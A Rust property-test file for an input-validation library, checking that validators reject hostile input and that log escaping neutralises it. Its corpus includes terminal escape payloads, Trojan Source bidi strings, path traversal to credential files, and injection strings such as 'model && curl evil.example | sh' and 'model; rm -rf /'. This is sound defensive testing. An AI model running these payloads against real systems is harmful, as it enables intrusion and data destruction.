//! Hostile input against the public interface: a corpus of known attack strings, and property
//! tests that no function panics, that escaping round-trips and leaves nothing dangerous, that
//! errors never carry raw dangerous characters, and that validated values validate again.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::borrow::Cow;
use std::path::PathBuf;

use input_validation::{
    MAX_ESCAPE_EXPANSION, MAX_IDENTIFIER_BYTES, MAX_PROMPT_BYTES, ValidationError, display_safe,
    escape_for_log, is_dangerous, sanitize_string, truncate_escaped, truncate_to_bytes,
    truncate_to_chars, unescape_log, validate_hex_string, validate_identifier, validate_model_ref,
    validate_path, validate_prompt, validate_range,
};
use proptest::prelude::*;

// ---------------------------------------------------------------------------------------------
// Corpus

/// Terminal attacks, each a real sequence a terminal emulator acts on.
const ANSI: &[(&str, &str)] = &[
    ("colour", "\u{1b}[31mERROR\u{1b}[0m"),
    ("cursor up and erase line", "ok\u{1b}[1A\u{1b}[2K"),
    ("cursor position", "\u{1b}[10;10Hx"),
    ("clear screen", "\u{1b}[2J\u{1b}[H"),
    ("full reset", "\u{1b}c"),
    ("OSC 0 window title", "\u{1b}]0;root@prod\u{7}"),
    ("OSC 8 hyperlink", "\u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\"),
    ("OSC 52 clipboard write", "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}"),
    ("8-bit CSI", "\u{9b}2J"),
    ("8-bit OSC with ST", "\u{9d}0;title\u{9c}"),
    ("DCS", "\u{1b}P1$r\u{1b}\\"),
];

/// Attempts to forge lines, hide text or reorder it.
const FORGERY: &[&str] = &[
    "alice\r\n2025-01-01T00:00:00Z INFO auth.success user=admin",
    "alice\n[CRITICAL] audit disabled",
    "visible\rhidden overwrite",
    "line\u{2028}separator",
    "para\u{2029}separator",
    "\u{85}next line (C1 NEL)",
    "admin\0.txt",
    "invoice\u{202E}fdp.exe",
    "\u{2067}\u{2066}isolate\u{2069}\u{2069}",
    "access_level != \"user\u{202E} \u{2066}// check if admin\u{2069} \u{2066}\"",
    "ad\u{200B}min",
    "\u{FEFF}admin",
    "ad\u{200D}min\u{2060}",
    "\u{E0001}\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\u{E007F}",
    "annotated\u{FFF9}ruby\u{FFFA}text\u{FFFB}",
    "arabic\u{061C}mark",
    "del\u{7f}char bell\u{7}",
];

/// Look-alikes of `admin` and `root` that must not pass as identifiers.
const HOMOGLYPHS: &[&str] = &[
    "\u{430}dmin",      // Cyrillic a
    "adm\u{456}n",      // Cyrillic i
    "r\u{43e}\u{43e}t", // Cyrillic o
    "r\u{3bf}ot",       // Greek omicron
    "\u{FF41}dmin",     // fullwidth a
    "admi\u{0578}",     // Armenian vo
    "\u{1D41A}dmin",    // mathematical bold a
    "admin\u{0307}",    // combining dot
    "\u{212A}elvin",    // Kelvin sign
];

/// Path traversal in every encoding we know of.
const TRAVERSAL: &[&str] = &[
    "../../etc/passwd",
    "models/../../../etc/shadow",
    "..",
    "./../x",
    "/etc/passwd",
    "//etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "%2e%2e/etc",
    "..%2fetc",
    "%252e%252e%252fetc",
    "..%c0%afetc",
    "%c0%ae%c0%ae/etc",
    "\\xc0\\xae\\xc0\\xae/etc",
    "..%u2216etc",
    "%uff0e%uff0e/etc",
    "\u{FF0E}\u{FF0E}/etc",
    "\u{FF0E}\u{FF0E}\u{FF0F}etc",
    "..\u{2215}etc",
    "\u{2024}\u{2024}/etc",
    "models\0/../../etc",
    "..;/etc",
    "file:///etc/passwd",
    "~/.ssh/id_ed25519",
];

/// Model refs that must be refused.
const BAD_MODEL_REFS: &[&str] = &[
    "/etc/passwd",
    "file:///etc/passwd",
    "file:model.gguf",
    "http://example.com/model",
    "-rf",
    "--config=/tmp/evil",
    "model; rm -rf /",
    "model && curl evil.example | sh",
    "$(reboot)",
    "`id`",
    "model|nc evil 9",
    "model > /dev/sda",
    "hf:org/../../etc",
    "../models/x",
    "model\nsecond line",
    "m\u{430}del",
    "https://trusted.example@evil.example/m",
    "https://evil.example:8443/m",
    "https://h/m?x=1&y=2",
    "C:\\models\\x",
];

fn assert_clean(text: &str, what: &str) {
    if let Some(c) = text.chars().find(|&c| is_dangerous(c)) {
        panic!("{what}: contains U+{:04X}: {:?}", u32::from(c), text);
    }
}

fn assert_error_is_safe(error: &ValidationError, input: &str) {
    let shown = error.to_string();
    assert_clean(&shown, "error message");
    assert_clean(&format!("{error:?}"), "error debug");
    // Inputs long enough not to occur in our fixed wording must not be echoed.
    if input.chars().count() >= 6 {
        assert!(!shown.contains(input), "error echoes its input: {shown}");
    }
}

#[test]
fn ansi_sequences_become_visible_inert_text() {
    for (name, sequence) in ANSI {
        let escaped = escape_for_log(sequence);
        assert_clean(&escaped, name);
        assert!(!escaped.contains('\u{1b}') && !escaped.contains('\u{7}'), "{name}");
        assert_eq!(unescape_log(&escaped).unwrap(), *sequence, "{name}");
        assert_clean(&display_safe(sequence), name);
        assert_clean(&display_safe(&escaped), name);
        assert!(sanitize_string(sequence).is_err(), "{name}");
    }
    assert_eq!(escape_for_log(ANSI[0].1), r"\x1b[31mERROR\x1b[0m");
    assert_eq!(escape_for_log(ANSI[5].1), r"\x1b]0;root@prod\x07");
    assert_eq!(
        escape_for_log(ANSI[6].1),
        r"\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
    );
    assert_eq!(escape_for_log(ANSI[9].1), r"\x9d0;title\x9c");
}

#[test]
fn forged_lines_and_hidden_text_are_recorded_escaped_not_dropped() {
    for hostile in FORGERY {
        let escaped = escape_for_log(hostile);
        assert!(matches!(escaped, Cow::Owned(_)), "{hostile:?} was not escaped");
        assert_clean(&escaped, hostile);
        assert_eq!(escaped.lines().count(), 1, "{hostile:?} still spans lines");
        assert_eq!(unescape_log(&escaped).unwrap(), *hostile);
        let error = sanitize_string(hostile).unwrap_err();
        assert_error_is_safe(&error, hostile);
    }
    assert_eq!(
        escape_for_log(FORGERY[0]),
        r"alice\r\n2025-01-01T00:00:00Z INFO auth.success user=admin"
    );
    assert_eq!(escape_for_log(FORGERY[7]), r"invoice\u{202E}fdp.exe");
}

#[test]
fn look_alike_identifiers_are_rejected_by_code_point() {
    for spoof in HOMOGLYPHS {
        let error = validate_identifier(spoof, MAX_IDENTIFIER_BYTES).unwrap_err();
        assert!(matches!(error, ValidationError::ForbiddenCharacter { .. }), "{spoof:?}: {error}");
        assert!(error.to_string().contains("U+"), "{error}");
        assert_error_is_safe(&error, spoof);
    }
    for hostile in FORGERY.iter().chain(ANSI.iter().map(|(_, s)| s)) {
        let error = validate_identifier(hostile, MAX_IDENTIFIER_BYTES).unwrap_err();
        assert_error_is_safe(&error, hostile);
    }
}

#[test]
fn traversal_in_every_encoding_is_rejected() {
    let root = tempfile::tempdir().unwrap();
    for attack in TRAVERSAL {
        let error = validate_path(attack, root.path()).unwrap_err();
        assert_error_is_safe(&error, attack);
        // Joined onto the root as text, the attack must not work either.
        let error = validate_path(root.path().join(attack), root.path());
        assert!(error.is_err(), "{attack:?} under the root");
    }
}

#[test]
fn hostile_model_refs_are_rejected() {
    for attack in BAD_MODEL_REFS.iter().chain(TRAVERSAL) {
        let error = validate_model_ref(attack).unwrap_err();
        assert_error_is_safe(&error, attack);
    }
}

#[test]
fn hostile_prompts_name_the_character_but_never_the_text() {
    for hostile in FORGERY.iter().chain(ANSI.iter().map(|(_, s)| s)) {
        let layout_only =
            hostile.chars().all(|c| !is_dangerous(c) || matches!(c, '\t' | '\n' | '\r'));
        match validate_prompt(hostile, MAX_PROMPT_BYTES) {
            Ok(prompt) => {
                assert!(layout_only, "{hostile:?} accepted");
                assert!(!format!("{prompt:?}{prompt}").contains(hostile));
            }
            Err(error) => {
                assert!(!layout_only, "{hostile:?} refused");
                assert_error_is_safe(&error, hostile);
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Properties

/// Text built from pieces chosen to hit the interesting cases often: dangerous characters,
/// backslashes and fragments of escapes, traversal pieces, and arbitrary characters.
fn tricky_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => any::<char>().prop_map(String::from),
        2 => "[a-zA-Z0-9._-]{1,6}",
        2 => prop::sample::select(vec![
            '\0', '\t', '\n', '\r', '\u{7}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}', '\u{9c}',
            '\u{9d}', '\u{61c}', '\u{200b}', '\u{200d}', '\u{200f}', '\u{2028}', '\u{2029}',
            '\u{202e}', '\u{2060}', '\u{2064}', '\u{2066}', '\u{2069}', '\u{feff}', '\u{fff9}',
            '\u{fffb}', '\u{e0000}', '\u{e0041}', '\u{e007f}', '\u{e9}', '\u{430}', '\u{ff0e}',
        ])
        .prop_map(String::from),
        2 => prop::sample::select(vec![
            "\\", "\\\\", "\\x", "\\x1b", "\\x1B", "\\x41", "\\u{", "\\u{202E}", "\\u{202e}",
            "\\u{E0041}", "\\u{0041}", "}", "{", "\\n", "\\0", "\\q", "..", "/", "%2e", "%",
            "\u{1b}[31m", "\u{1b}]0;t\u{7}", "hf:", "https://", "@", ":", "-",
        ])
        .prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![any::<String>(), tricky_text()]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn escaping_round_trips(s in any_text()) {
        let escaped = escape_for_log(&s);
        prop_assert_eq!(unescape_log(&escaped).unwrap(), s.as_str());
    }

    #[test]
    fn escaped_output_holds_no_dangerous_character(s in any_text()) {
        let escaped = escape_for_log(&s);
        prop_assert!(!escaped.chars().any(is_dangerous));
        prop_assert!(escaped.len() <= MAX_ESCAPE_EXPANSION * s.len());
        let needs_escape = s.chars().any(|c| is_dangerous(c) || c == '\\');
        prop_assert_eq!(matches!(escaped, Cow::Borrowed(_)), !needs_escape);
    }

    #[test]
    fn display_output_holds_no_dangerous_character(s in any_text()) {
        let shown = display_safe(&s);
        prop_assert!(!shown.chars().any(is_dangerous));
        prop_assert_eq!(matches!(shown, Cow::Borrowed(_)), !s.chars().any(is_dangerous));
        // Same syntax as the log escaping; only the backslash is treated differently.
        if !s.contains('\\') {
            prop_assert_eq!(shown, escape_for_log(&s));
        }
    }

    #[test]
    fn unescape_accepts_only_canonical_text(s in any_text()) {
        match unescape_log(&s) {
            Ok(raw) => prop_assert_eq!(escape_for_log(&raw), s.as_str()),
            Err(error) => assert_error_is_safe(&error, &s),
        }
    }

    #[test]
    fn truncation_cuts_on_boundaries(s in any_text(), n in 0usize..80) {
        let by_bytes = truncate_to_bytes(&s, n);
        prop_assert!(by_bytes.len() <= n && s.starts_with(by_bytes));
        prop_assert!(by_bytes.len() == s.len() || by_bytes.len() + 4 > n);
        let by_chars = truncate_to_chars(&s, n);
        prop_assert_eq!(by_chars.chars().count(), s.chars().count().min(n));
        prop_assert!(s.starts_with(by_chars));
        let escaped = escape_for_log(&s);
        let cut = truncate_escaped(&escaped, n);
        prop_assert!(cut.len() <= n && escaped.starts_with(cut));
        // Longest cut: adding the next token (at most ten bytes) would pass the limit.
        prop_assert!(cut.len() == escaped.len() || cut.len() + 10 > n);
        let back = unescape_log(cut).unwrap();
        prop_assert!(s.starts_with(back.as_ref()));
        let raw_cut = truncate_escaped(&s, n);
        prop_assert!(raw_cut.len() <= n && s.starts_with(raw_cut));
    }

    #[test]
    fn text_validators_never_panic_and_their_errors_are_safe(s in any_text(), n in 0usize..64) {
        let results = [
            validate_identifier(&s, n).map(|v| v.into_inner()),
            validate_identifier(&s, MAX_IDENTIFIER_BYTES).map(|v| v.into_inner()),
            validate_model_ref(&s).map(|v| v.into_inner()),
            validate_hex_string(&s, s.len()).map(|v| v.into_inner()),
            validate_hex_string(&s, n).map(|v| v.into_inner()),
            validate_prompt(&s, MAX_PROMPT_BYTES).map(|v| v.into_inner()),
            validate_prompt(&s, n).map(|v| v.into_inner()),
            sanitize_string(&s).map(|v| v.into_inner()),
        ];
        for result in results {
            if let Err(error) = result {
                assert_error_is_safe(&error, &s);
            }
        }
        // Range errors do show the values (that is their use), but escaped and bounded.
        if let Err(error) = validate_range(s.as_str(), "a", "n") {
            assert_clean(&error.to_string(), "range error");
            assert_clean(&format!("{error:?}"), "range error debug");
            prop_assert!(error.to_string().len() <= 64 * 3 + 64);
        }
    }

    #[test]
    fn validated_values_validate_again(
        id in "[A-Za-z0-9][A-Za-z0-9._-]{0,40}[A-Za-z0-9_-]",
        model in "(hf:|https://)?[a-z0-9]([a-z0-9-]{0,6}[a-z0-9])?(/[A-Za-z0-9][A-Za-z0-9._-]{0,8}){0,3}",
        hex in "[0-9a-fA-F]{1,64}",
        s in any_text(),
    ) {
        let v = validate_identifier(&id, MAX_IDENTIFIER_BYTES).unwrap();
        prop_assert_eq!(validate_identifier(&v, MAX_IDENTIFIER_BYTES), Ok(v.clone()));
        prop_assert_eq!(v.as_str(), id.as_str());
        let v = validate_model_ref(&model).unwrap();
        prop_assert_eq!(validate_model_ref(&v), Ok(v.clone()));
        let v = validate_hex_string(&hex, hex.len()).unwrap();
        prop_assert_eq!(validate_hex_string(&v, hex.len()), Ok(v.clone()));
        if let Ok(v) = validate_identifier(&s, MAX_IDENTIFIER_BYTES) {
            prop_assert_eq!(validate_identifier(&v, MAX_IDENTIFIER_BYTES), Ok(v.clone()));
        }
        if let Ok(v) = validate_model_ref(&s) {
            prop_assert_eq!(validate_model_ref(&v), Ok(v.clone()));
        }
        if let Ok(v) = validate_prompt(&s, MAX_PROMPT_BYTES) {
            prop_assert_eq!(validate_prompt(&v, MAX_PROMPT_BYTES), Ok(v.clone()));
        }
        if let Ok(v) = sanitize_string(&s) {
            prop_assert_eq!(sanitize_string(&v), Ok(v.clone()));
        }
    }

    #[test]
    fn ranges_accept_exactly_the_ordered_inclusive_interval(
        value in any::<f64>(), a in any::<f64>(), b in any::<f64>(),
        i in any::<i64>(), j in any::<i64>(), k in any::<i64>(),
    ) {
        let nan = value.is_nan() || a.is_nan() || b.is_nan();
        let expected = !nan && a <= b && a <= value && value <= b;
        match validate_range(value, a, b) {
            Ok(v) => prop_assert!(expected && v.to_bits() == value.to_bits()),
            Err(error) => {
                prop_assert!(!expected);
                prop_assert_eq!(nan, matches!(error, ValidationError::NotANumber { .. }));
                assert_error_is_safe(&error, "");
            }
        }
        prop_assert_eq!(validate_range(i, j, k).is_ok(), j <= k && j <= i && i <= k);
    }
}

/// A root with a directory, a file, a link inside and a link out, shared by the path properties.
struct Sandbox {
    _dirs: (tempfile::TempDir, tempfile::TempDir),
    root: PathBuf,
    real_root: PathBuf,
}

fn sandbox() -> Sandbox {
    let root = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir(root.path().join("a")).unwrap();
    std::fs::write(root.path().join("a/f"), b"x").unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(outside.path(), root.path().join("out")).unwrap();
        std::os::unix::fs::symlink(root.path().join("a"), root.path().join("in")).unwrap();
    }
    let real_root = std::fs::canonicalize(root.path()).unwrap();
    Sandbox { root: root.path().to_owned(), real_root, _dirs: (root, outside) }
}

fn path_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(vec!["a", "f", "in", "out", "new", "..", ".", "", "%2e", "a.b"])
            .prop_map(String::from),
        1 => any::<String>(),
    ];
    (any::<bool>(), prop::collection::vec(piece, 0..6)).prop_map(|(absolute, parts)| {
        format!("{}{}", if absolute { "/" } else { "" }, parts.join("/"))
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn accepted_paths_stay_inside_the_root(candidate in path_text(), under_root in any::<bool>()) {
        let sandbox = sandbox();
        let candidate = if under_root {
            sandbox.root.join(candidate.trim_start_matches('/'))
        } else {
            PathBuf::from(candidate)
        };
        match validate_path(&candidate, &sandbox.root) {
            Ok(path) => {
                prop_assert!(path.starts_with(&sandbox.real_root), "{}", path.display());
                let text = candidate.to_string_lossy();
                prop_assert!(!text.split('/').any(|c| c == ".."));
                let again = validate_path(path.as_path(), &sandbox.root);
                prop_assert_eq!(again.as_ref().map(|p| p.as_path()), Ok(path.as_path()));
            }
            Err(error) => assert_error_is_safe(&error, &candidate.to_string_lossy()),
        }
    }
}

#[cfg(unix)]
#[test]
fn path_sandbox_links_behave_as_the_property_assumes() {
    let sandbox = sandbox();
    let via_link = validate_path("in/f", &sandbox.root).unwrap();
    assert_eq!(via_link.as_path(), sandbox.real_root.join("a/f"));
    assert_eq!(validate_path("out/new", &sandbox.root), Err(ValidationError::SymlinkEscape));
}
